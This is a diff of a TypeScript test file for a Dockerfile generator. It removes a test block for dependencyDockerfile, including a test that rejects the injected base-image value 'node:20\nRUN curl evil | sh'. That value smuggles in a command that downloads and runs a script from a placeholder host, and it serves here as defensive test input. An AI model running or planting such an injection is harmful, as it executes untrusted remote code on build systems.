@@ -3,7 +3,6 @@ import { Readable } from 'node:stream';
 import {
   buildContextTar,
   DOCKERIGNORE,
-  dependencyDockerfile,
   enginesWarning,
   generateDockerfile,
   type DockerfileInput,
@@ -22,19 +21,6 @@ const instructions = (text: string) =>
     .split('\n')
     .filter((line) => /^[A-Z]+ /.test(line))
     .map((line) => line.split(' ')[0]);
-
-describe('dependencyDockerfile', () => {
-  it('copies the installed node_modules onto the runtime image and runs nothing (no RUN step)', () => {
-    const text = dependencyDockerfile('berth/node-runtime:local');
-    expect(instructions(text)).toEqual(['FROM', 'COPY']);
-    expect(text).toMatch(/^FROM berth\/node-runtime:local$/m);
-    expect(text).toMatch(/^COPY --chown=10001:10001 node_modules \/app\/node_modules$/m);
-  });
-
-  it('refuses a runtime image that could inject instructions', () => {
-    expect(() => dependencyDockerfile('node:20\nRUN curl evil | sh')).toThrow('invalid base image');
-  });
-});
 
 describe('generateDockerfile', () => {
   it('builds FROM the dependency image with no RUN step: tenant code never runs in the builder', () => {
